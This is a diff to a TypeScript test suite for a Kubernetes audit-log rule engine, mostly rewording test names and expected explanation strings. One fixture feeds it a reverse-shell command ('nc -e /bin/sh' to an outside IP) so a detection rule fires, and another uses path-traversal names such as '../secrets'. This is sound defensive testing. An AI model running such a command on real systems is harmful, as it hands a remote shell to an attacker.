@@ -7,7 +7,7 @@ import { firedBy, NOW, signalOf } from '../../fixtures/signals.ts';
 
 const EXEC = { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' };
 
-/** A rule that sees this in everything. */
+/** A rule that reports this sighting for every signal. */
 const seeing = (sighting: Sighting, facts: Partial<AuditRule> = {}): AuditRule => ({
   ...execIntoPod,
   id: 'sees-all',
@@ -18,13 +18,13 @@ const seeing = (sighting: Sighting, facts: Partial<AuditRule> = {}): AuditRule =
 });
 
 describe('evaluating a signal', () => {
-  it('asks every rule, so that one event may show several things', () => {
+  it('asks every rule, so that one event may have several findings', () => {
     const signal = signalOf({ ...EXEC, command: 'nc -e /bin/sh 203.0.113.9 4444' });
     const found = evaluate(signal, NOW).map((one) => one.rule);
     assert.deepEqual(found, ['exec-into-pod', 'exec-reverse-shell']);
   });
 
-  it('gives a redelivered event the same ids, and each rule, event and target one of its own', () => {
+  it('gives a redelivered event the same ids, and every rule, event and target its own', () => {
     const rules = [seeing({ because: ['a'] }), seeing({ because: ['a'] }, { id: 'sees-too' })];
     const ids = (name: string, insertId: string): string[] =>
       evaluate(signalOf({ ...EXEC, name, insertId }), NOW, rules).map((one) => one.id);
@@ -36,36 +36,36 @@ describe('evaluating a signal', () => {
     assert.match(one ?? '', /^f-[0-9a-f]{24}$/);
   });
 
-  it('names whoever did it, however long their name is', () => {
+  it('names the principal, however long its name is', () => {
     for (const principal of ["o'brien@example.com", `system:serviceaccount:${'s'.repeat(63)}:${'a'.repeat(253)}`]) {
       const found = firedBy(seeing({ because: ['a'] }), { ...EXEC, principal });
       assert.deepEqual([found.principal, found.target.principal], [principal, principal]);
     }
   });
 
-  it('lowers what was only attempted, and says why it came to nothing', () => {
+  it('lowers a claim about a call that failed, and says why it failed', () => {
     const rule = seeing({ because: ['a'] }, { conclusive: true });
     const refused = firedBy(rule, { ...EXEC, code: 7, message: 'pods is forbidden' });
     assert.deepEqual([refused.severity, refused.confidence, refused.conclusive], ['medium', 0.7, undefined]);
-    assert.match(refused.because[1] ?? '', /the call was refused, with code 7 and "pods is forbidden"/);
+    assert.match(refused.because[1] ?? '', /the call was refused, with code 7 and the message "pods is forbidden"/);
     const admission = firedBy(rule, { ...EXEC, code: 7, decision: 'allow', message: 'failed quota' });
-    assert.match(admission.because[1] ?? '', /authorized, then refused by admission or quota/);
+    assert.match(admission.because[1] ?? '', /authorized, but refused by admission or quota/);
     assert.match(firedBy(rule, { ...EXEC, code: 13 }).because[1] ?? '', /the call failed, with code 13/);
   });
 
-  it('lowers nothing below low, and no confidence below none', () => {
+  it('does not lower severity below low or confidence below 0', () => {
     const rule = seeing({ because: ['a'], severity: 'low', confidence: 0.05 });
     const { severity, confidence } = firedBy(rule, { ...EXEC, code: 7 });
     assert.deepEqual([severity, confidence], ['low', 0]);
   });
 
-  it('believes a part of an entry less, and says so', () => {
+  it('lowers the confidence for a part of a split entry, and says so', () => {
     const found = firedBy(seeing({ because: ['a'] }), { ...EXEC, split: { uid: 'u', index: 1, totalSplits: 2 } });
     assert.equal(found.confidence, 0.48);
     assert.match(found.because.join(), /split because of its size/);
   });
 
-  it('lets no name into a target that Kubernetes does not allow', () => {
+  it('keeps names that Kubernetes does not allow out of the target', () => {
     const hostile = ['../secrets', 'a b', 'a_B', 'x'.repeat(300), 'a\u0000', 'a/b', ''];
     for (const name of hostile) {
       for (const on of [
@@ -81,7 +81,7 @@ describe('evaluating a signal', () => {
           cluster: 'c1',
           principal: 'ana@example.com',
         });
-        assert.match(because.join(), /none that Kubernetes allows: the finding is about the cluster alone/);
+        assert.match(because.join(), /Kubernetes does not allow .*: the finding is only about the cluster/);
       }
     }
   });
@@ -92,7 +92,7 @@ describe('evaluating a signal', () => {
     assert.equal(found.target.principal, undefined);
   });
 
-  it('keeps a finding small, whatever a rule writes', () => {
+  it('keeps a finding small, whatever a rule reports', () => {
     const sighting = { because: Array.from({ length: 50 }, () => `\u0007${'x'.repeat(5000)}`) };
     const found = firedBy(seeing(sighting), EXEC);
     assert.ok(finding.safeParse(found).success);
